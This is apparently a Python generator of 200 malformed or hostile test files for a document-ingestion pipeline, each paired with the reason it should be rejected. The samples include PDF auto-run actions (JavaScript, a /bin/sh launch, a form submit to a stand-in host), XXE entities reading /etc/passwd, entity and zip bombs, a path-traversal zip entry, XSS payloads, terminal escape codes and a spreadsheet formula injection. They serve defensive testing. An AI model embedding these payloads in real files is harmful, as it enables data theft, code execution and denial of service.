"""Makes 200 files that are broken or hostile, each with what it tries and what is said of it.

python -m tests.data.broken.make_broken FOLDER    writes them, and prints the table

The same bytes every time. `SAID` begins the reason in English; "" where the file is read after
all and must do no harm.
"""

from __future__ import annotations

import io
import random
import re
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

TEXT = "Biblioteksplanen antogs av nämnden den 3 mars 2025 och gäller i fyra år."
NO_PDF = "it is not a PDF that can be opened"
NO_PAGES = "it is a PDF without pages"
NO_TEXT = "none of its 1 pages has text"
NO_PAGE = "none of its 1 pages can be read"
ENTITIES = "it defines XML entities"
NO_WORD = "it is not a Word file that can be opened"
TOO_SLOW = "reading it took longer than"
NO_MAIN = "no main text was found in the page"
NOT_TEXT = "it is not text, whatever its name says"
EMPTY = "the file is empty"


class Broken(NamedTuple):
    """One file: its name, its bytes, what it tries, and how the reason given for it begins."""

    name: str
    data: bytes
    purpose: str
    said: str


def broken() -> list[Broken]:
    """Return the 200 files."""
    found = [*_pdfs(), *_words(), *_pages(), *_texts(), *_others()]
    chance = random.Random(2026)
    while len(found) < 200:  # the rest: noise under every name
        ending = ("pdf", "docx", "html", "txt")[len(found) % 4]
        found.append(_noise(chance, ending, len(found)))
    return found


def _noise(chance: random.Random, ending: str, number: int) -> Broken:
    data = b"\0" + chance.randbytes(300 + number)
    said = {"pdf": NO_PDF, "docx": NO_WORD, "html": "", "txt": NOT_TEXT}[ending]
    if ending == "html":  # bytes that are read as some text or other
        data, said = b"<html><body>" + bytes(8) + b"<nav>meny</nav></body></html>", NO_MAIN
        data += b"<!-- %d -->" % number
    return Broken(f"brus-{number:03}.{ending}", data, "random bytes under a known ending", said)


# ---- PDF


def pdf(objects: dict[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, with a sound table of where they are."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    size = max(objects) + 1
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n" % (size, root, trailer)
    return bytes(out + b"%d\n%%%%EOF\n" % start)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (extra, len(data), data)


def page(content: bytes, extra: bytes = b"", catalog: bytes = b"") -> dict[int, bytes]:
    """Return the objects of a PDF with one page that has this content."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>>>%s>>" % extra,
        4: _stream(content),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
    }


def shown(text: str = TEXT) -> bytes:
    """Return the content of a page with a line of text."""
    return b"BT /F 11 Tf 72 700 Td (" + text.encode("cp1252") + b") Tj ET"


def many_pages(count: int) -> dict[int, bytes]:
    """Return the objects of a PDF with so many pages, all but the first of them empty."""
    made = page(shown())
    numbers = [3, *range(10, count + 9)]
    made.update(dict.fromkeys(numbers[1:], b"<</Type/Page/Parent 2 0 R>>"))
    made[2] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (
        b" ".join(b"%d 0 R" % number for number in numbers), count,
    )  # fmt: skip
    return made


def one_page_again(count: int) -> dict[int, bytes]:
    """Return the objects of a PDF whose one page is named so many times."""
    made = page(shown())
    made[2] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (b" ".join([b"3 0 R"] * count), count)
    return made


def _pdfs() -> Iterator[Broken]:
    whole = pdf(page(shown()))
    yield Broken("tom.pdf", b"", "no bytes at all", EMPTY)
    yield Broken("bara-huvud.pdf", b"%PDF-1.7\n", "a header and no more", NO_PDF)
    yield Broken("inte-pdf.pdf", b"Detta \xe4r ingen pdf.", "text under the name of a PDF", NO_PDF)
    yield Broken("utan-sidor.pdf", pdf({1: b"<</Type/Catalog/Pages 2 0 R>>",
                 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "no pages", NO_PAGES)  # fmt: skip
    yield Broken("bild.pdf", pdf(page(b"0 0 100 100 re f")), "a drawing and no text", NO_TEXT)
    yield Broken("losenord.pdf", _locked(), "a password", "it is protected by a password")
    for name, action in {
        "javascript": b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "starta-program": b"/OpenAction<</S/Launch/F(/bin/sh)>>",
        "ring-hem": b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>",
        "skicka-formular": b"/OpenAction<</S/SubmitForm/F(http://192.0.2.1/)>>",
    }.items():
        made = pdf(page(shown(TEXT + " " + name), catalog=action))
        yield Broken(f"{name}.pdf", made, "an action when it is opened", "")
    link = (
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>>>]"
    )
    yield Broken("lank.pdf", pdf(page(shown(TEXT + " l"), link)), "a link to a local file", "")
    for number in range(20):
        cut = whole[: len(whole) * number // 24 + 12]
        # MuPDF mends what it can, so that it depends on where the cut is
        said = NO_PDF if number < 9 or number in (14, 15) else NO_TEXT if number < 13 else ""
        yield Broken(f"avkortad-{number:02}.pdf", cut + b"%%%d" % number, "cut off", said)
    loops = {
        "sjalv": {2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"},
        "rundgang": {2: b"<</Type/Pages/Kids[6 0 R]/Count 1>>",
                     6: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"},
        "foralder": {3: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"},
    }  # fmt: skip
    for name, changed in loops.items():
        made = pdf({**page(shown(TEXT + " " + name)), **changed})
        yield Broken(f"slinga-{name}.pdf", made, "a page tree that leads back to itself",
                     "" if name == "foralder" else NO_PAGE)  # fmt: skip
    prev = re.sub(rb"startxref\n(\d+)", rb"startxref\n\1", whole)
    start = int(re.findall(rb"startxref\n(\d+)", whole)[0])
    prev = prev.replace(b"/Root", b"/Prev %d/Root" % start)
    yield Broken("slinga-xref.pdf", prev, "a table of objects that names itself", "")
    yield Broken("hundratusen-sidor.pdf", pdf(many_pages(100_000)), "100,000 pages",
                 "it has 100000 pages")  # fmt: skip
    yield Broken("samma-sida.pdf", pdf(one_page_again(100_000)), "100,000 times the same page",
                 NO_PDF)  # fmt: skip
    bomb = zlib.compress(bytes(300_000_000), 9)
    deep = {**page(shown()), 4: _stream(bomb, b"/Filter/FlateDecode")}
    yield Broken("bomb-flate.pdf", pdf(deep), "a page that unpacks to 300 MB", NO_PAGE)
    yield Broken("djup-matris.pdf", pdf(page(b"[" * 100_000)), "100,000 brackets", NO_PAGE)
    yield Broken("djup-q.pdf", pdf(page(b"q " * 200_000 + shown(TEXT + " q"))), "200,000 states",
                 NO_PAGE)  # fmt: skip
    for name, kind in (("jbig2", b"/JBIG2Decode"), ("lzw", b"/LZWDecode"), ("jpx", b"/JPXDecode")):
        made = {**page(shown()), 4: _stream(b"\xff\x00" * 500, b"/Filter" + kind)}
        yield Broken(f"strom-{name}.pdf", pdf(made), "a page that is packed as a picture", NO_TEXT)


def _locked() -> bytes:
    none = b"<" + b"00" * 32 + b">"
    lock = b"<</Filter/Standard/V 1/R 2/O%s/U%s/P -4>>" % (none, none)
    return pdf({**page(shown()), 9: lock}, trailer=b"/Encrypt 9 0 R/ID[<00><00>]")


# ---- Word

_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>",
}
_BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "{}</w:body></w:document>"
)


def word(body: str, head: str = '<?xml version="1.0"?>', **more: bytes) -> bytes:
    """Return a DOCX with this body and further parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        parts = {**_PARTS, "word/document.xml": head + _BODY.format(body), **more}
        for name, data in parts.items():
            made.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data,
                          zipfile.ZIP_DEFLATED)  # fmt: skip
    return out.getvalue()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _words() -> Iterator[Broken]:
    whole = word(paragraph(TEXT + " Word"))
    yield Broken("tom.docx", b"", "no bytes at all", EMPTY)
    yield Broken("inte-word.docx", b"Hej", "text under the name of a Word file", NO_WORD)
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    yield Broken(
        "gammal.docx", old, "an old Word file renamed", "it is protected by a password, or"
    )
    yield Broken("utan-text.docx", word("<w:p/>"), "no words", "the Word file has no text")
    yield Broken("tom-zip.docx", b"PK\5\6" + bytes(18), "an empty zip", NO_WORD)
    for number in range(20):
        cut = whole[: len(whole) * (number + 1) // 22]
        yield Broken(f"avkortad-{number:02}.docx", cut + b"%d" % number, "cut off", NO_WORD)
    for number, name in enumerate(_PARTS):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as made:
            made.writestr(zipfile.ZipInfo(name), _PARTS[name])
        yield Broken(f"saknar-delar-{number}.docx", out.getvalue(), "parts are missing", NO_WORD)
    yield Broken("trasig-xml.docx", word("<w:p><w:r>"), "XML that does not end", NO_WORD)
    flood = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "skratt"}">' for n in range(9))
    bomb = word(paragraph("&e8;"), f"<!DOCTYPE x [{flood}]>")
    yield Broken("entiteter.docx", bomb, "a billion laughs", ENTITIES)
    for name, target in {"fil": "file:///etc/passwd", "natet": "http://192.0.2.1/x"}.items():
        head = f'<!DOCTYPE x [<!ENTITY y SYSTEM "{target}">]>'
        made = word(paragraph(TEXT + " " + name + "&y;"), head)
        yield Broken(f"yttre-entitet-{name}.docx", made, "an entity from outside", ENTITIES)
    head = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'
    yield Broken("yttre-dtd.docx", word(paragraph(TEXT + " dtd"), head), "a DTD from outside", "")
    big = word(paragraph(TEXT), **{"word/media/bild.bin": bytes(400_000_000)})
    yield Broken("bomb.docx", big, "400 kB that unpack to 400 MB", "it unpacks to 400 MB")
    nested = "<w:sdt><w:sdtContent>" * 5000 + paragraph(TEXT) + "</w:sdtContent></w:sdt>" * 5000
    yield Broken("djup.docx", word(nested), "10,000 elements in each other", NO_WORD)
    climb = word(paragraph(TEXT + " klättrar"), **{"../../../tmp/utanfor.txt": b"x"})
    yield Broken("klattrar.docx", climb, "a part with a path out of the file", "")


# ---- web pages and text


def _web(body: str, head: str = "") -> bytes:
    return f"<html><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>".encode()


def _pages() -> Iterator[Broken]:
    main = (
        "<main><h1>Öppettider</h1><p>Huvudbiblioteket har öppet till klockan nitton {}.</p></main>"
    )
    yield Broken("tom.html", b"", "no bytes at all", EMPTY)
    yield Broken("kakvagg.html", _web("<nav>Meny</nav>"), "a menu and no text", NO_MAIN)
    yield Broken("bara-skript.html", _web("<script>ladda()</script>"), "scripts alone", NO_MAIN)
    for number, hostile in enumerate((
        "<script>owned()</script>", "<img src=http://192.0.2.1/x onerror=owned()>",
        "<iframe src=file:///etc/passwd></iframe>", "<meta http-equiv=refresh content=0;url=//x>",
        "<base href=http://192.0.2.1/>", "<link rel=stylesheet href=http://192.0.2.1/x.css>",
        "<object data=http://192.0.2.1/x></object>", "<svg onload=owned()></svg>",
    )):  # fmt: skip
        made = _web(main.format(f"varje vardag, nummer {number}") + hostile)
        yield Broken(f"skript-{number}.html", made, f"a page with {hostile[1:7].strip()}", "")
    attributes = " ".join(f"a{n}=1" for n in range(500_000))
    yield Broken("attribut.html", _web(f"<p {attributes}>x</p>"), "500,000 attributes", TOO_SLOW)
    yield Broken("djup.html", _web("<div>" * 1_000_000), "a million nested parts", NO_MAIN)
    yield Broken("tabeller.html", _web("<table><tr><td>" * 50_000), "50,000 nested tables", NO_MAIN)
    yield Broken("stor.html", _web("<!--" + "x" * 20_000_001 + "-->"), "more than 20 MB",
                 "the page is larger than 20 MB")  # fmt: skip


def _texts() -> Iterator[Broken]:
    for ending in ("txt", "md"):
        yield Broken(f"tom.{ending}", b"", "no bytes at all", EMPTY)
        yield Broken(f"blank.{ending}", b" \n\n\t\n", "blanks alone", EMPTY)
        yield Broken(f"program.{ending}", b"\x7fELF\0\0\0", "a program", NOT_TEXT)
        escape = f"{TEXT} \x1b]0;ägd\x07\x1b[2J\u202e {ending}".encode()
        yield Broken(f"styrtecken.{ending}", escape, "codes that terminals obey", "")
        formula = f'=HYPERLINK("http://192.0.2.1/";"Biblioteksplan") {ending}\n\n{TEXT}'
        yield Broken(f"formel.{ending}", formula.encode(), "a formula as title", "")
    yield Broken("rubriker.md", b"# Plan\n\n## M\xc3\xa5l\n", "headings alone",
                 "it has headings but no text under them")  # fmt: skip


def _others() -> Iterator[Broken]:
    for name in ("program.exe", "bild.png", "film.mp4", "namnlos"):
        ending = Path(name).suffix or "no ending"
        yield Broken(name, b"\0x", "a kind that is not read",
                     f"files of this kind ({ending}) are not read")  # fmt: skip


def write(folder: Path) -> list[Broken]:
    """Write the files into a folder, and return them."""
    folder.mkdir(parents=True, exist_ok=True)
    made = broken()
    for file in made:
        (folder / file.name).write_bytes(file.data)
    return made


def table(files: list[Broken]) -> str:
    """Return the table of the files in Markdown."""
    rows = (
        f"| {file.name} | {file.purpose} | {'read' if not file.said else file.said} |"
        for file in files
    )
    return "\n".join(("| file | what it tries | what is said |", "|---|---|---|", *rows))


if __name__ == "__main__":
    print(table(write(Path(sys.argv[1]))))
